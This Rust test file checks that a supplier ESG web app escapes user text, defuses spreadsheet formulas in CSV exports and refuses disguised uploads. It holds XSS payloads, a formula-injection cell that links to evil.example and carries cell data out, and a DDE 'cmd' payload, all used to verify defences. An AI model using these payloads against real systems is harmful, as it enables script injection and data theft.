//! Script injection, formula injection and disguised uploads (DESIGN §9):
//! text typed by suppliers, auditors and buyers — names, findings, plans,
//! notes, training topics, file names, imported cells — comes back escaped
//! on every page and e-mail that shows it; CSV exports defuse cells a
//! spreadsheet would run and XLSX exports hold no formulas; uploads are
//! judged by content and size, and a refused one leaves nothing behind.

use std::collections::BTreeSet;
use std::io::Cursor;

use calamine::{open_workbook_from_rs, Reader, Xlsx};
use diesel::prelude::*;

use supplier_esg::db::schema::outbox;
use supplier_esg::jobs::reminders::run_once;
use supplier_esg::models::now;

use crate::cmrt_files::{ListRow, TemplateFile};
use crate::support::{Client, Reply, TestApp};

/// Text that breaks out of an element, of a quoted attribute and into a
/// link, numbered so that the record it was stored in can be told.
fn payload(n: u32) -> String {
    format!("<script>alert({n})</script>\"><img src=x onerror=alert({n})> javascript:alert({n})")
}

/// The same for a file name: an upload keeps only the last path component
/// (so no `</script>`) and drops quotes.
fn file_payload(n: u32, extension: &str) -> String {
    format!("<img src=x onerror=alert({n})>.{extension}")
}

/// Whether `text` shows payload `n` escaped, as it must: with named
/// entities (askama's pages) or numeric ones (the e-mail templates).
fn shows_escaped(text: &str, n: u32) -> bool {
    text.contains(&format!("&lt;img src=x onerror=alert({n})&gt;"))
        || text.contains(&format!("&#60;img src=x onerror=alert({n})&#62;"))
}

/// Markup that only an unescaped payload could have produced (the pages
/// carry no inline script and no `javascript:` links of their own).
const RAW: &[&str] = &[
    "<script>alert(",
    "<img src=x",
    "href=\"javascript:",
    "src=\"javascript:",
];

fn assert_escaped(what: &str, html: &str) {
    let lower = html.to_lowercase();
    for raw in RAW {
        assert!(!lower.contains(raw), "{what} shows {raw:?} unescaped");
    }
}

/// Which payloads were stored, and on which pages they came back escaped.
#[derive(Default)]
struct Payloads {
    stored: BTreeSet<u32>,
    seen: BTreeSet<u32>,
}

impl Payloads {
    fn store(&mut self, n: u32) -> String {
        self.stored.insert(n);
        payload(n)
    }

    fn store_file(&mut self, n: u32, extension: &str) -> String {
        self.stored.insert(n);
        file_payload(n, extension)
    }

    /// A page: nothing unescaped; note the payloads it shows escaped.
    fn inspect(&mut self, what: &str, reply: &Reply) {
        assert!(
            reply
                .header("content-type")
                .is_some_and(|t| t.starts_with("text/html")),
            "{what}: {} {}",
            reply.status,
            reply.body
        );
        assert_escaped(what, &reply.body);
        let shown = self
            .stored
            .iter()
            .filter(|n| shows_escaped(&reply.body, **n));
        self.seen.extend(shown);
    }

    async fn visit(&mut self, client: &mut Client, path: &str) {
        let reply = client.get(path).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
        self.inspect(path, &reply);
    }
}

fn query(key: &str, value: &str) -> String {
    serde_urlencoded::to_string([(key, value)]).unwrap()
}

/// A CSV field, quoted.
fn csv_field(value: &str) -> String {
    format!("\"{}\"", value.replace('"', "\"\""))
}

#[actix_web::test]
async fn stored_and_reflected_text_is_escaped_on_every_page_and_e_mail() {
    for app in TestApp::each_backend().await {
        let mut p = Payloads::default();
        let (name, name_local, contact_name) = (p.store(11), p.store(12), p.store(13));
        app.add_supplier_with("XSS1", |s| {
            s.status = "approved".into();
            s.approved_on = "2019-01-01".into();
            s.name = name;
            s.name_local = name_local;
            s.contact_name = contact_name;
        });
        app.add_supplier_contact("contact@xss1.example.cn", "XSS1");
        app.add_user("auditor@xss.example", "auditor");
        let admin_user = app.add_user("admin@xss.example", "admin");
        let mut admin = app.signed_in_as("admin@xss.example").await;
        let mut api = app.api_client(&admin_user);
        let mut auditor = app.signed_in_as("auditor@xss.example").await;
        let mut contact = app.signed_in_as("contact@xss1.example.cn").await;

        let firm = p.store(14);
        let created = admin
            .submit(
                "/audits/new",
                "/audits",
                &[
                    ("audit_ref", "XSS-A1"),
                    ("supplier_code", "XSS1"),
                    ("kind", "annual"),
                    ("firm", &firm),
                    ("auditor_email", "auditor@xss.example"),
                    ("planned_on", "2021-02-01"),
                ],
            )
            .await;
        assert_eq!(created.status, 303, "{}", created.body);
        // Two findings: one worked on, one left overdue for the reminders.
        let (worked, overdue) = (p.store(21), p.store(22));
        for (clause, description) in [("B1", &worked), ("B2", &overdue)] {
            let found = auditor
                .submit(
                    "/audits/XSS-A1",
                    "/audits/XSS-A1/findings",
                    &[
                        ("clause", clause),
                        ("severity", "major"),
                        ("description", description),
                        ("found_on", "2021-03-01"),
                    ],
                )
                .await;
            assert_eq!(found.status, 303, "{}", found.body);
        }
        let actions = api.get("/api/v1/corrective-actions?supplier=XSS1").await;
        let action = actions.json()["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["action"]["description"] == worked.as_str())
            .unwrap()["action"]["id"]
            .as_i64()
            .unwrap();

        // The supplier's contact writes the plan and a progress note.
        let (cause, planned, owner, note) = (p.store(31), p.store(32), p.store(33), p.store(34));
        let plan = contact
            .action_step(
                action,
                "plan",
                &[
                    ("root_cause", &cause),
                    ("planned_actions", &planned),
                    ("owner", &owner),
                ],
                &[],
            )
            .await;
        assert_eq!(plan.status, 303, "{}", plan.body);
        let photo_name = file_payload(35, "png");
        let photo = b"\x89PNG\r\n\x1a\n<script>alert(35)</script>";
        let progress = contact
            .action_step(
                action,
                "progress",
                &[
                    ("entry_on", "2021-03-10"),
                    ("percent", "40"),
                    ("note", &note),
                ],
                &[("file", &photo_name, photo)],
            )
            .await;
        assert_eq!(progress.status, 303, "{}", progress.body);
        let page = format!("/corrective-actions/{action}");
        let version = admin.get(&page).await.input_value("version").unwrap();
        let due = (now().date() + chrono::Duration::days(30)).to_string();
        let reason = p.store(36);
        let extended = admin
            .submit(
                &page,
                &format!("{page}/extend"),
                &[("version", &version), ("due_on", &due), ("reason", &reason)],
            )
            .await;
        assert_eq!(extended.status, 303, "{}", extended.body);
        // The photo downloads as an attachment under its escaped name, never
        // as a page: a browser neither renders nor sniffs it.
        let photo_link = admin
            .get(&page)
            .await
            .number_after("/attachments/")
            .unwrap();
        let download = admin.get(&format!("/attachments/{photo_link}")).await;
        assert_eq!(download.header("content-type"), Some("image/png"));
        assert_eq!(download.header("x-content-type-options"), Some("nosniff"));
        let disposition = download.header("content-disposition").unwrap();
        assert!(disposition.starts_with("attachment"), "{disposition}");
        assert!(!disposition.contains('<'), "{disposition}");

        let (target, verifier) = (p.store(61), p.store(62));
        let esg = admin
            .submit_multipart(
                "/esg/data/new",
                "/esg/data",
                &[
                    ("supplier_code", "XSS1"),
                    ("year", "2021"),
                    ("scope1_t", "10"),
                    ("scope2_t", "20"),
                    ("has_target", "yes"),
                    ("target_year", "2030"),
                    ("target_text", &target),
                    ("ghg_verification", "verified"),
                    ("verifier", &verifier),
                ],
                &[],
            )
            .await;
        assert_eq!(esg.status, 303, "{}", esg.body);

        let topic = p.store(41);
        let session = admin
            .submit(
                "/esg/trainings/new",
                "/esg/trainings",
                &[
                    ("session_ref", "XSS-T1"),
                    ("held_on", "2021-05-01"),
                    ("topic", &topic),
                ],
            )
            .await;
        assert_eq!(session.status, 303, "{}", session.body);
        let attended = admin
            .submit(
                "/esg/trainings/XSS-T1",
                "/esg/trainings/XSS-T1/attendance",
                &[("supplier_code", "XSS1"), ("people", "5")],
            )
            .await;
        assert_eq!(attended.status, 303, "{}", attended.body);

        let (title, item) = (p.store(51), p.store(52));
        let created = admin
            .submit(
                "/suppliers/XSS1/programmes/new",
                "/suppliers/XSS1/programmes",
                &[("title", &title), ("started_on", "2021-03-01")],
            )
            .await;
        assert_eq!(created.status, 303, "{}", created.body);
        let programme = created.location().to_owned();
        let added = admin
            .submit(
                &programme,
                &format!("{programme}/items"),
                &[
                    ("area", "energy_saving"),
                    ("actions", &item),
                    ("result_value", "10"),
                    ("result_unit", "pct_change"),
                ],
            )
            .await;
        assert_eq!(added.status, 303, "{}", added.body);

        let user_name = p.store(91);
        let user = admin
            .submit(
                "/admin/users/new",
                "/admin/users",
                &[
                    ("email", "named@xss.example"),
                    ("name", &user_name),
                    ("role", "viewer"),
                    ("language", "en"),
                    ("password", "a long enough password"),
                ],
            )
            .await;
        assert!(user.status == 303 || user.status == 200, "{}", user.body);

        // Imports: the file name and the refused cell come back in the report.
        let refused_file = p.store_file(71, "csv");
        let country = p.store(72);
        let csv = format!(
            "code,name,country,business_unit\nXSS9,Acme,{},phones\n",
            csv_field(&country)
        );
        let report = admin
            .submit_multipart(
                "/import?kind=suppliers",
                "/import",
                &[("kind", "suppliers")],
                &[("file", &refused_file, csv.as_bytes())],
            )
            .await;
        assert_eq!(report.status, 422, "{}", report.body);
        p.inspect("the import report", &report);
        let ready_file = p.store_file(73, "csv");
        let ready = admin
            .submit_multipart(
                "/import?kind=suppliers",
                "/import",
                &[("kind", "suppliers")],
                &[(
                    "file",
                    &ready_file,
                    b"code,name,country,business_unit\nXSS8,Acme,VN,phones\n",
                )],
            )
            .await;
        assert_eq!(ready.status, 200, "{}", ready.body);
        p.inspect("the import check", &ready);

        // A CMRT: its file name, the company it declares, a smelter typed in.
        let (workbook_name, company, smelter) =
            (p.store_file(74, "xlsx"), p.store(75), p.store(76));
        let workbook = TemplateFile {
            company,
            ..TemplateFile::cmrt(vec![ListRow::not_listed("Tin", &smelter, "China")])
        }
        .bytes();
        let checked = admin
            .submit_multipart(
                "/suppliers/XSS1/smelters",
                "/suppliers/XSS1/cmrt",
                &[("year", "2021")],
                &[("file", &workbook_name, &workbook)],
            )
            .await;
        assert_eq!(checked.status, 200, "{}", checked.body);
        p.inspect("the CMRT check", &checked);
        let confirmed = admin
            .submit(
                "/suppliers/XSS1/smelters",
                "/suppliers/XSS1/cmrt/confirm",
                &[
                    ("upload", &checked.input_value("upload").unwrap()),
                    ("year", "2021"),
                ],
            )
            .await;
        assert_eq!(confirmed.status, 303, "{}", confirmed.body);
        let submission = confirmed.location().to_owned();

        // Reminders carry the supplier's name and the finding to the buyer.
        let mailer = crate::reminders::mailer(&app, None);
        run_once(
            &mut app.conn(),
            &mailer,
            crate::reminders::BASE,
            now().date(),
        )
        .unwrap();
        let bodies: Vec<String> = outbox::table
            .select(outbox::body_html)
            .load(&mut *app.conn())
            .unwrap();
        for body in &bodies {
            assert_escaped("a reminder e-mail", body);
        }
        for shown in [11, 22] {
            assert!(
                bodies.iter().any(|b| shows_escaped(b, shown)),
                "payload {shown}: {bodies:?}"
            );
        }

        for path in [
            "/",
            "/suppliers",
            "/suppliers?q=XSS1",
            "/suppliers/XSS1",
            "/suppliers/XSS1/edit",
            "/suppliers/XSS1/smelters",
            &submission,
            "/audits",
            "/audits/XSS-A1",
            "/corrective-actions",
            &page,
            "/risk",
            "/esg",
            "/esg/data/XSS1/2021",
            "/esg/climate",
            "/esg/trainings",
            "/esg/trainings/XSS-T1",
            &programme,
            "/smelters/suppliers",
            "/admin/users",
            "/admin/outbox",
        ] {
            p.visit(&mut admin, path).await;
        }
        for path in ["/", "/suppliers/XSS1", "/esg", &page] {
            p.visit(&mut contact, path).await;
        }
        for path in ["/", "/audits", "/audits/XSS-A1", &page] {
            p.visit(&mut auditor, path).await;
        }

        // Reflected: search terms, filters and the sign-in's way back.
        let reflected = [
            format!("/suppliers?{}", query("q", &p.store(81))),
            format!("/corrective-actions?{}", query("q", &p.store(82))),
            format!("/audits?{}", query("q", &p.store(83))),
        ];
        for path in &reflected {
            p.visit(&mut admin, path).await;
        }
        let next = format!("/login?{}", query("next", &format!("/{}", p.store(84))));
        p.visit(&mut app.client(), &next).await;

        let missing: Vec<_> = p.stored.difference(&p.seen).collect();
        assert!(
            missing.is_empty(),
            "never shown (escaped or not): {missing:?}"
        );
    }
}

/// Cells a spreadsheet would run: `=`, `+`, `-`, `@` (and tab, CR) first.
fn runs_as_formula(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let plain_number = !unsigned.is_empty()
        && unsigned.matches('.').count() <= 1
        && unsigned.chars().all(|c| c.is_ascii_digit() || c == '.');
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

#[actix_web::test]
async fn exports_defuse_formulas_in_csv_and_write_none_in_xlsx() {
    for app in TestApp::each_backend().await {
        let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        app.add_supplier_with("FX1", |s| {
            s.status = "approved".into();
            s.approved_on = "2019-01-01".into();
            s.name = hyperlink.into();
            s.name_local = "-2+3".into();
            s.contact_name = "@SUM(1+1)".into();
        });
        let mut admin = app.signed_in("admin").await;
        let session = admin
            .submit(
                "/esg/trainings/new",
                "/esg/trainings",
                &[
                    ("session_ref", "FX-T1"),
                    ("held_on", "2021-05-01"),
                    ("topic", "+cmd|' /C calc'!A0"),
                    ("provider", "\t=1+1"),
                ],
            )
            .await;
        assert_eq!(session.status, 303, "{}", session.body);
        let attended = admin
            .submit(
                "/esg/trainings/FX-T1",
                "/esg/trainings/FX-T1/attendance",
                &[("supplier_code", "FX1"), ("people", "5")],
            )
            .await;
        assert_eq!(attended.status, 303, "{}", attended.body);

        let csv = admin.get("/suppliers/export.csv").await;
        assert_eq!(csv.status, 200);
        let cells: Vec<String> =
            csv::Reader::from_reader(csv.body.trim_start_matches('\u{feff}').as_bytes())
                .records()
                .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                .collect();
        for injected in [hyperlink, "-2+3", "@SUM(1+1)"] {
            assert!(
                cells.contains(&format!("'{injected}")),
                "{injected} not defused: {cells:?}"
            );
        }
        for path in [
            "/suppliers/export.csv",
            "/esg/trainings/export.csv",
            "/smelters/suppliers/export.csv",
        ] {
            let reply = admin.get(path).await;
            assert_eq!(reply.status, 200, "{path}");
            let mut reader =
                csv::Reader::from_reader(reply.body.trim_start_matches('\u{feff}').as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    assert!(!runs_as_formula(cell), "{path}: {cell:?} would run");
                }
            }
        }
        let training = admin.get("/esg/trainings/export.csv").await;
        assert!(training.body.contains("'+cmd|"), "{}", training.body);

        for path in ["/suppliers/export.xlsx", "/esg/trainings/export.xlsx"] {
            let reply = admin.get(path).await;
            assert_eq!(reply.status, 200, "{path}");
            let mut workbook: Xlsx<_> =
                open_workbook_from_rs(Cursor::new(reply.bytes.clone())).unwrap();
            for sheet in workbook.sheet_names() {
                let formulas = workbook.worksheet_formula(&sheet).unwrap();
                assert!(
                    formulas.cells().all(|(_, _, f)| f.is_empty()),
                    "{path} {sheet}: formulas"
                );
                let values = workbook.worksheet_range(&sheet).unwrap();
                let shown: Vec<String> = values.cells().map(|(_, _, v)| v.to_string()).collect();
                if path.starts_with("/suppliers") {
                    assert!(
                        shown.iter().any(|v| v == hyperlink),
                        "kept as text: {shown:?}"
                    );
                }
            }
        }
    }
}

/// An upload refused for what it is or how big it is.
struct Refusal {
    what: &'static str,
    page: &'static str,
    action: &'static str,
    fields: &'static [(&'static str, &'static str)],
    file_name: &'static str,
    bytes: Vec<u8>,
    status: u16,
    message: &'static str,
}

#[actix_web::test]
async fn disguised_and_oversize_uploads_are_refused_and_leave_nothing() {
    for app in TestApp::each_backend().await {
        app.add_supplier("UP1", "CN");
        let mut admin = app.signed_in("admin").await;
        // 1 MB keeps the oversize files small.
        let form = admin.settings_form(&[("upload_limit_mb", "1")]).await;
        let fields: Vec<(&str, &str)> =
            form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(admin.post("/admin/settings", &fields).await.status, 303);
        let over_limit = {
            let mut csv = b"code,name,country,business_unit\n".to_vec();
            while csv.len() <= 1024 * 1024 {
                csv.extend_from_slice(b"BIG1,Big Co,VN,phones\n");
            }
            csv
        };
        let import: &[(&str, &str)] = &[("kind", "suppliers")];
        let cmrt: &[(&str, &str)] = &[("year", "2021")];
        let cases = [
            Refusal {
                what: "an .xlsx that is a PNG",
                page: "/import",
                action: "/import",
                fields: import,
                file_name: "suppliers.xlsx",
                bytes: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
                status: 400,
                message: "suppliers.xlsx: this type of file is not accepted",
            },
            Refusal {
                what: "a .csv with NUL bytes",
                page: "/import",
                action: "/import",
                fields: import,
                file_name: "suppliers.csv",
                bytes: b"code,name,country,business_unit\nNUL1,A\0B,VN,phones\n".to_vec(),
                status: 400,
                message: "suppliers.csv: this type of file is not accepted",
            },
            Refusal {
                what: "an .xlsx that is some other ZIP",
                page: "/import",
                action: "/import",
                fields: import,
                file_name: "suppliers.xlsx",
                bytes: b"PK\x03\x04\x14\0\0\0\0\0not a workbook".to_vec(),
                status: 422,
                message: "the workbook cannot be read",
            },
            Refusal {
                what: "an import over the limit",
                page: "/import",
                action: "/import",
                fields: import,
                file_name: "suppliers.csv",
                bytes: over_limit.clone(),
                status: 413,
                message: "larger than the allowed limit",
            },
            Refusal {
                what: "a CMRT that is a PDF",
                page: "/suppliers/UP1/smelters",
                action: "/suppliers/UP1/cmrt",
                fields: cmrt,
                file_name: "cmrt.xlsx",
                bytes: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec(),
                status: 400,
                message: "cmrt.xlsx: this type of file is not accepted",
            },
            Refusal {
                what: "a CMRT over the limit",
                page: "/suppliers/UP1/smelters",
                action: "/suppliers/UP1/cmrt",
                fields: cmrt,
                file_name: "cmrt.xlsx",
                bytes: [b"PK\x03\x04".as_slice(), &over_limit].concat(),
                status: 413,
                message: "larger than the allowed limit",
            },
        ];
        let tables = [
            "attachments",
            "suppliers",
            "mineral_submissions",
            "audit_log",
        ];
        let counts = |app: &TestApp| tables.map(|t| app.count(t));
        let before = counts(&app);
        for case in &cases {
            let reply = admin
                .submit_multipart(
                    case.page,
                    case.action,
                    case.fields,
                    &[("file", case.file_name, &case.bytes)],
                )
                .await;
            assert_eq!(reply.status, case.status, "{}: {}", case.what, reply.body);
            assert!(
                reply.body.contains(case.message),
                "{}: {}",
                case.what,
                reply.body
            );
            assert_eq!(counts(&app), before, "{} wrote something", case.what);
        }
    }
}
